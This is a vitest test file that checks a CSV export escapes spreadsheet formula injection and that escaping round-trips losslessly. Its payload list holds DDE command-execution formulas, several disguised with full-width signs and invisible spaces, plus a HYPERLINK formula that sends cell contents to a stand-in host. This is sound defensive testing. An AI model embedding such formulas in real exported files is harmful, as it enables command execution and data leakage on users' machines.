import { describe, expect, test } from 'vitest';
import { csvText } from '../../../main/store/sheets/csv-write.ts';
import { neutral, plain } from '../../../main/store/sheets/neutral.ts';
import { fc } from '../../properties.ts';

/** What was seen in the wild, and its disguises. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const before = ['', ' ', '   ', '\u00a0', '\u3000', '\ufeff', '\u200b'];
const payloads = [
  ...signs.flatMap((sign) => before.map((space) => `${space}${sign}cmd|' /C calc'!A0`)),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"点我")',
  '@SUM(1+1)*cmd|calc',
  '-2+3+cmd|calc',
  '+86 138****5678',
];

describe('text that a spreadsheet would run', () => {
  test.each(payloads)('is plain text in the file: %j', (payload) => {
    const written = csvText(payload).replace(/^"/, '');
    expect(written.startsWith("'")).toBe(true);
    expect(plain(neutral(payload))).toBe(payload);
  });

  test('is the only text that is changed', () => {
    for (const name of ['王小明', 'Ana-María', '1234', 'a=b', '🙂', 'O’Neil', "'n Name"])
      expect(neutral(name)).toBe(name);
  });

  test('comes back as it was, whatever it was', () => {
    const odd = fc.string({
      unit: fc.constantFrom("'", '=', '+', ' ', '\t', 'a', '王', '＝', '"', ',', '\n'),
    });
    fc.assert(
      fc.property(fc.oneof(odd, fc.string({ unit: 'binary' })), (text) => plain(neutral(text)) === text),
    );
  });
});
